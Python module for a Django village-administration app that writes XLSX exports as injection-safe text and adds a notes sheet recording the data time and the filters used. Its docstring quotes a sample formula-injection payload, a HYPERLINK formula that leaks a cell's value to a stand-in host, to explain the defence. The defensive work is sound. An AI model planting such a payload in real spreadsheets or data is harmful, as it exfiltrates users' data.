"""The one XLSX writer of every export: text stays text, and each file says when its data
was taken and with which filters.

Built on xlsxwriter with `strings_to_formulas`, `strings_to_urls` and `strings_to_numbers`
off, and every str written with `write_string`: a name such as
`=HYPERLINK("http://x?leak="&C5,"a")` arrives as the text it is, never as a formula. A
text starting with = + - @, a tab or a CR also gets Excel's quote prefix, so that editing
the cell in a spreadsheet program keeps it text.

Each workbook ends with a sheet "Keterangan": what the file is, the village, "data per"
(the moment the data was read, local time) and the filters used. It is a sheet of its
own so that files with a fixed layout (OpenSID's import format, e-PPGBM's upload) keep
their sheets exactly as the receiving system expects.
"""

from __future__ import annotations

import datetime as dt
import io
import math
import os
import re
from collections.abc import Iterable, Sequence
from decimal import Decimal
from types import TracebackType
from typing import TYPE_CHECKING, Any, NamedTuple, Protocol

import xlsxwriter
from django.utils import timezone
from django.utils.translation import gettext as _

if TYPE_CHECKING:
    from django import forms
    from xlsxwriter.format import Format
    from xlsxwriter.worksheet import Worksheet

CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
NOTES_SHEET = "Keterangan"
# What makes a spreadsheet program read a typed cell as a formula (OWASP's CSV injection list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_START_CHARS = frozenset(FORMULA_STARTS)
DATE_FORMAT = "dd-mm-yyyy"
DATETIME_FORMAT = "dd-mm-yyyy hh:mm"
_SHEET_NAME_BAD = re.compile(r"[\[\]:*?/\\]")

Filters = Sequence[tuple[str, str]]


class Village(Protocol):
    """What the notes sheet names: a `regions.Village` (core is the layer below regions)."""

    @property
    def name(self) -> str: ...

    @property
    def code(self) -> str: ...


class Style:
    """Cell formatting, as xlsxwriter format properties; made by `Workbook.style`."""

    __slots__ = ("props",)

    def __init__(self, props: dict[str, Any]) -> None:
        self.props = tuple(sorted(props.items()))


class TableStyles(NamedTuple):
    title: Style
    head: Style
    cell: Style
    date: Style
    money: Style


class Workbook:
    """An export being written; `close()` adds the notes sheet and returns the bytes (or
    writes `path`). Use as a context manager, or call `close()` exactly once."""

    def __init__(
        self,
        *,
        title: str,
        village: Village | None = None,
        filters: Filters = (),
        as_of: dt.datetime | None = None,
        path: str | os.PathLike[str] | None = None,
        constant_memory: bool = False,
    ) -> None:
        self.title, self.village, self.filters = title, village, list(filters)
        self.as_of = as_of or timezone.now()
        self._buffer = io.BytesIO() if path is None else None
        options = {
            "in_memory": path is None,
            "constant_memory": constant_memory,
            "strings_to_formulas": False,
            "strings_to_urls": False,
            "strings_to_numbers": False,
            "remove_timezone": True,
        }
        target: Any = self._buffer if path is None else str(path)
        self._book = xlsxwriter.Workbook(target, options)
        self._formats: dict[tuple[tuple[tuple[str, Any], ...], bool, str | None], Format | None] = {}
        self._names: set[str] = set()
        self._closed = False

    def style(self, **props: Any) -> Style:
        """E.g. `book.style(bold=True, border=1)`: xlsxwriter's format properties."""
        return Style(props)

    def format(
        self, style: Style | None, *, quoted: bool = False, default_num: str | None = None
    ) -> Format | None:
        """The xlsxwriter format of `style`, with Excel's quote prefix when `quoted` and
        `default_num` as number format when the style names none; made once per variant."""
        key = (style.props if style is not None else (), quoted, default_num)
        if key in self._formats:
            return self._formats[key]
        props = dict(key[0])
        if default_num and "num_format" not in props:
            props["num_format"] = default_num
        if quoted:
            props["quote_prefix"] = True
        made = self._book.add_format(props) if props else None
        self._formats[key] = made
        return made

    def table_styles(self) -> TableStyles:
        """The register look of the village office's lists: a large bold title, grey bold
        column heads and bordered, top-aligned cells."""
        return TableStyles(
            title=self.style(bold=True, font_size=13),
            head=self.style(bold=True, border=1, bg_color="#EEEEEE", text_wrap=True),
            cell=self.style(border=1, valign="top", text_wrap=True),
            date=self.style(border=1, valign="top", num_format=DATE_FORMAT),
            money=self.style(border=1, valign="top", num_format="#,##0"),
        )

    def add_sheet(self, name: str) -> Sheet:
        """A sheet; the name is made valid for Excel (no []:*?/\\, at most 31 characters,
        unique)."""
        # Excel also refuses a name that starts or ends with an apostrophe.
        clean = _SHEET_NAME_BAD.sub("-", name)[:31].strip("'") or "Lembar"
        base, n = clean, 2
        while clean.lower() in self._names or clean.lower() == NOTES_SHEET.lower():
            suffix = f" {n}"
            clean = base[: 31 - len(suffix)] + suffix
            n += 1
        self._names.add(clean.lower())
        return Sheet(self, self._book.add_worksheet(clean))

    def _write_notes(self) -> None:
        sheet = Sheet(self, self._book.add_worksheet(NOTES_SHEET))
        label = self.style(bold=True, valign="top")
        wrap = self.style(text_wrap=True, valign="top")
        sheet.set_column(0, 0, 22)
        sheet.set_column(1, 1, 80)
        sheet.write(0, 0, NOTES_SHEET, self.style(bold=True, font_size=13))
        local = timezone.localtime(self.as_of)
        lines: list[tuple[str, str]] = [(_("Isi"), self.title)]
        if self.village is not None:
            lines.append((_("Desa"), f"{self.village.name} ({self.village.code})"))
        lines.append((_("Data per"), f"{local:%d-%m-%Y %H:%M} {local.tzname() or ''}".strip()))
        filters = [f"{name}: {value}" for name, value in self.filters] or [_("tanpa filter (semua data)")]
        lines += [(_("Filter") if i == 0 else "", text) for i, text in enumerate(filters)]
        for row, (name, value) in enumerate(lines, start=2):
            sheet.write(row, 0, name, label)
            sheet.write(row, 1, value, wrap)
        sheet.write(
            len(lines) + 3,
            0,
            _("Teks ditulis sebagai teks, tidak pernah sebagai rumus (formula)."),
        )

    def close(self) -> bytes:
        """Finish the file: the notes sheet, then the bytes (b"" when written to a path)."""
        if self._closed:
            raise RuntimeError("workbook already closed")
        self._closed = True
        self._write_notes()
        self._book.close()
        return self._buffer.getvalue() if self._buffer is not None else b""

    def __enter__(self) -> Workbook:
        return self

    def __exit__(
        self, exc_type: type[BaseException] | None, exc: BaseException | None, tb: TracebackType | None
    ) -> None:
        if not self._closed:
            if exc_type is None:
                self.close()
            else:
                self._closed = True
                self._book.close()


class Sheet:
    """A worksheet that writes each value by its type; text always as text."""

    def __init__(self, book: Workbook, worksheet: Worksheet) -> None:
        self._book, self._ws = book, worksheet
        self.name = worksheet.get_name()

    def write(self, row: int, col: int, value: Any, style: Style | None = None) -> None:
        book, ws = self._book, self._ws
        if type(value) is str:  # the common case first: an export is mostly text
            quoted = value[:1] in _FORMULA_START_CHARS
            ws.write_string(row, col, value, book.format(style, quoted=quoted) if style or quoted else None)
        elif value is None:
            if style is not None:
                ws.write_blank(row, col, None, book.format(style))
        elif isinstance(value, bool):
            ws.write_boolean(row, col, value, book.format(style))
        elif isinstance(value, (int, float, Decimal)) and math.isfinite(value):
            ws.write_number(row, col, value, book.format(style))
        elif isinstance(value, dt.datetime):
            day = timezone.localtime(value) if timezone.is_aware(value) else value
            ws.write_datetime(
                row, col, day.replace(tzinfo=None), book.format(style, default_num=DATETIME_FORMAT)
            )
        elif isinstance(value, dt.date):
            day = dt.datetime.combine(value, dt.time())
            ws.write_datetime(row, col, day, book.format(style, default_num=DATE_FORMAT))
        else:
            self.write(row, col, str(value), style)

    def write_row(self, row: int, col: int, values: Iterable[Any], style: Style | None = None) -> None:
        for offset, value in enumerate(values):
            self.write(row, col + offset, value, style)

    def merge(
        self,
        first_row: int,
        first_col: int,
        last_row: int,
        last_col: int,
        value: Any,
        style: Style | None = None,
    ) -> None:
        self._ws.merge_range(first_row, first_col, last_row, last_col, "", self._book.format(style))
        self.write(first_row, first_col, value, style)

    def write_header(
        self, row: int, columns: Sequence[tuple[str, float]], style: Style | None = None
    ) -> None:
        """Column heads from column A, each with its width: (label, width) pairs."""
        for col, (label, width) in enumerate(columns):
            self.set_column(col, col, width)
            self.write(row, col, label, style)

    def set_column(self, first: int, last: int, width: float) -> None:
        self._ws.set_column(first, last, width)

    def freeze_panes(self, row: int, col: int) -> None:
        self._ws.freeze_panes(row, col)


def form_filters(form: forms.Form) -> list[tuple[str, str]]:
    """The filters a bound, valid form applied, as (label, value shown) pairs."""
    from django import forms as django_forms

    if not form.is_bound or not form.is_valid():
        return []
    shown: list[tuple[str, str]] = []
    for name, field in form.fields.items():
        value = form.cleaned_data.get(name)
        if value in (None, "", [], ()):
            continue
        if isinstance(value, dt.date):
            text = value.strftime("%d-%m-%Y")
        elif isinstance(value, bool):
            text = _("ya") if value else _("tidak")
        elif isinstance(field, django_forms.ChoiceField) and not isinstance(
            field, django_forms.ModelChoiceField
        ):
            choices: Iterable[tuple[Any, Any]] = field.choices  # type: ignore[assignment]
            labels = {str(key): str(label) for key, label in choices}
            values = value if isinstance(value, (list, tuple)) else [value]
            text = ", ".join(labels.get(str(v), str(v)) for v in values)
        else:
            text = str(value)
        shown.append((str(field.label or name), text))
    return shown
